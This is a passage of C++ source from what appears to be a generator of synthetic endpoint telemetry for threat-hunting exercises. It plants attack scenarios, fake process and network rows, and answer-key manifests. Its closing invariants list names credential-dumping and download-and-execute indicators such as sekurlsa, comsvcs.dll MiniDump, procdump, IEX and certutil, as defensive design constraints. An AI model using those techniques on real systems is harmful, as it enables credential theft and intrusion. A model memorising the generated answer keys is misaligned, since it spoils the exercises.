    return std::clamp(t, w_.activity_start + kTicksPerHour, w_.now - 2 * kTicksPerHour);
  }

  // A public address the background never uses and no scenario has used.
  std::string_view FreshIp() {
    for (;;) {
      std::string ip = std::to_string(World::PublicFirstOctet(rng_));
      for (int i = 0; i < 3; ++i) {
        ip += '.';  // appended apart: GCC 12 warns falsely (-Wrestrict) on "." + std::to_string
        ip += std::to_string(rng_.Between(1, 254));
      }
      if (!w_.IsUsedIp(ip) && ips_.insert(ip).second) return Keep(std::move(ip));
    }
  }

  const ProcessEntry& Entry(catalog::Process spec, bool is_signed) {
    p_.specs.push_back(std::move(spec));
    const catalog::Process& s = p_.specs.back();
    ProcessEntry e{&s, {s.names[0]}, {Compile(std::string(s.dir) + "\\" + s.names[0])}, MakeImage(rng_, s.size, s.signer),
                   {}, 0, 0, {}};
    e.image.is_signed = is_signed;
    p_.entries.push_back(std::move(e));
    return p_.entries.back();
  }

  // The background instance of a process running on d at t, started with its default command line
  // (or `cmdline` under `account`); its creation row will exist.
  const ProcView& Existing(const Device& d, const char* process, int64_t t, const char* cmdline = nullptr,
                           catalog::Account account = catalog::Account::kSystem) {
    const uint16_t index = w_.ProcessIndex(process);
    const uint32_t launch = cmdline ? w_.Intern(index, cmdline, account) : w_.processes[index].default_launch;
    p_.views.emplace_back();
    w_.View(d, launch, w_.InstanceAt(d, launch, t), p_.views.back());
    return p_.views.back();
  }

  // A planted process started by `parent` at `created`, with its ProcessCreated row.
  const ProcView& Spawn(const Device& d, const ProcessEntry& e, std::string cmdline, const ProcView& parent,
                        int64_t created, std::string folder = "") {
    p_.views.emplace_back();
    ProcView& v = p_.views.back();
    v.ref = {d.index, kPlantedLaunch, 0};
    v.entry = &e;
    v.file_name = e.names[0];
    v.account = parent.account;
    if (folder.empty()) w_.Expand(folder, e.paths[0], 0, v.account);
    v.folder = std::move(folder);
    v.cmdline = std::move(cmdline);
    v.pid = 4 * (12'200 + static_cast<int64_t>(rng_.Below(2000)));
    v.created = created;
    v.parent_name = parent.file_name;
    v.parent_pid = parent.pid;
    v.parent_created = parent.created;
    v.integrity = parent.integrity;
    v.elevation = parent.elevation;
    v.logon_id = parent.logon_id;
    v.session = parent.session;
    v.rdp_client = parent.rdp_client;
    Record& r = Row(Table::kDeviceProcessEvents, created, d, "ProcessCreated");
    r.proc = &v;
    r.init = &parent;
    r.file_name = v.file_name;
    r.folder = v.folder;
    r.sha1 = e.image.sha1;
    r.sha256 = e.image.sha256;
    r.md5 = e.image.md5;
    r.file_size = e.image.size;
    r.account = v.account;
    r.logon_id = v.logon_id;
    return v;
  }

  Record& Row(Table t, int64_t time, const Device& d, std::string_view action) {
    std::vector<Record>& rows = p_.rows[static_cast<size_t>(t)];
    rows.emplace_back();
    Record& r = rows.back();
    r.time = time;
    r.ingested = time + ReportingDelay(rng_);
    r.dev = &d;
    r.action = action;
    r.report_id = 900'000'000 + static_cast<int64_t>(++report_ids_);
    return r;
  }

  Record& Connection(const Device& d, const ProcView& p, int64_t t, std::string_view ip, int64_t port,
                     std::string_view url, std::string_view action) {
    Record& r = Row(Table::kDeviceNetworkEvents, t, d, action);
    r.init = &p;
    r.remote_ip = ip;
    r.remote_port = port;
    r.remote_url = url;
    r.local_ip = d.ip;
    r.local_port = rng_.Between(49152, 65535);
    r.protocol = "Tcp";
    r.local_ip_type = "Private";
    r.remote_ip_type = "Public";
    return r;
  }

  void Inbound(const Device& d, const ProcView& p, int64_t t, std::string_view ip) {
    Record& r = Connection(d, p, t, ip, rng_.Between(49152, 65535), "", "InboundConnectionAccepted");
    r.local_port = 3389;
  }

  void Logon(Record& r, const Account& who, std::string_view type, std::string_view protocol, const Device* from) {
    r.account = &who;
    r.logon_type = type;
    r.protocol = protocol;
    r.is_local_admin = 0;
    r.logon_id = 1'000'000 + static_cast<int64_t>(rng_.Below(9'000'000));
    if (from) {
      r.remote_device = from->netbios;
      r.remote_ip = from->ip;
      r.remote_ip_type = "Private";
    }
    r.remote_port = rng_.Between(49152, 65535);
  }

  void FileOf(Record& r, const ProcessEntry& file, std::string_view path) {
    r.folder = Keep(std::string(path));
    r.file_name = r.folder.substr(r.folder.rfind('\\') + 1);
    r.sha1 = file.image.sha1;
    r.sha256 = file.image.sha256;
    r.md5 = file.image.md5;
    r.file_size = file.image.size;
  }

  void Describe(std::string_view techniques, std::string_view summary, std::string_view signature, const Device& d,
                const ProcView& p, std::string_view ip, std::string_view url, int64_t first, int64_t last) {
    json_ += ", \"techniques\": " + JsonQuote(techniques) + ",\n     \"summary\": " + JsonQuote(summary) +
             ",\n     \"signature\": " + JsonQuote(signature) + ",\n     \"device\": " + JsonQuote(d.name) +
             ", \"device_id\": " + JsonQuote(d.id) + ",\n     \"account\": " +
             JsonQuote(p.account->domain + "\\" + p.account->name) +
             ", \"account_name\": " + JsonQuote(p.account->name) + ", \"process\": " + JsonQuote(p.file_name) +
             ", \"process_id\": " + std::to_string(p.pid) + ",\n     \"command_line\": " + JsonQuote(p.cmdline) +
             ",\n     \"remote_ip\": " + JsonQuote(ip) + ", \"remote_url\": " + JsonQuote(url) +
             ",\n     \"first\": " + JsonQuote(FormatDateTime(first)) + ", \"last\": " + JsonQuote(FormatDateTime(last));
  }

  // A manifest "expect" entry: `rows` rows of table t, with Timestamp in [first, last], are exactly
  // those whose columns equal `match`. Only for tables being written.
  void Expect(Table t, int64_t rows, int64_t first, int64_t last, const std::vector<Match>& match) {
    if (!selected_[static_cast<size_t>(t)]) return;
    std::string e = "{\"table\": " + JsonQuote(TableName(t)) + ", \"rows\": " + std::to_string(rows) +
                    ", \"first\": " + JsonQuote(FormatDateTime(first)) + ", \"last\": " + JsonQuote(FormatDateTime(last)) +
                    ", \"match\": {";
    for (size_t i = 0; i < match.size(); ++i) e += (i ? ", " : "") + JsonQuote(match[i].column) + ": " + match[i].json;
    expects_.push_back(e + "}}");
  }

  void ExpectProcess(const Device& d, const ProcView& p) {
    Expect(Table::kDeviceProcessEvents, 1, p.created, p.created,
           {M("DeviceName", d.name), M("ProcessId", p.pid), M("ProcessCommandLine", p.cmdline)});
  }

  World& w_;
  const std::array<bool, kTableCount>& selected_;
  Planted& p_;
  uint64_t seed_;
  Rng rng_{0};
  std::string json_;
  std::vector<std::string> expects_, entries_;
  std::set<uint32_t> used_;
  std::set<std::string> ips_;
  uint64_t report_ids_ = 0;
};

}  // namespace

void Plant(World& world, const GenOptions& opt, const std::array<bool, kTableCount>& selected, Planted& out) {
  Planter planter(world, opt, selected, out);
  std::vector<Scenario> scenarios = opt.scenarios;
  std::sort(scenarios.begin(), scenarios.end());
  scenarios.erase(std::unique(scenarios.begin(), scenarios.end()), scenarios.end());
  for (const Scenario s : scenarios) planter.Plant(s);
  for (size_t t = 0; t < kTableCount; ++t)
    if (!selected[t]) out.rows[t].clear();
  planter.SortRows();
  out.scenarios_json = planter.Json();
}

std::vector<std::string> BackgroundInvariants() {
  return {
      "No command line but lsass.exe's own names lsass; none names MiniDump, comsvcs.dll, sekurlsa, procdump, "
      "PsExec, PSEXESVC, regsvr32 or certutil.",
      "No command line holds DownloadString, DownloadFile, IEX or Invoke-Expression, in clear or inside an "
      "-EncodedCommand; background encoded commands are inventory scripts.",
      "rundll32, mshta, regsvr32 and certutil never connect to a public address; nothing connects to port 445, "
      "139, 135 or 3389 on a public address.",
      "No registry event touches ...\\CurrentVersion\\Run or ...\\CurrentVersion\\RunOnce.",
      "No Network or RemoteInteractive logon lands on a workstation; no logon comes from a public address.",
      "No ServiceInstalled event installs PSEXESVC or a binary outside C:\\Windows and C:\\Program Files; no "
      "command line runs sc.exe create; no OpenProcessApiCall targets lsass.exe.",
      "Every DLL loaded from a user-writable folder is signed and has a DeviceFileCertificateInfo row.",
      "Background connections to one address come at irregular (Poisson-like) intervals; planted addresses are "
      "never used by the background.",
  };
}

}  // namespace huntc::gen
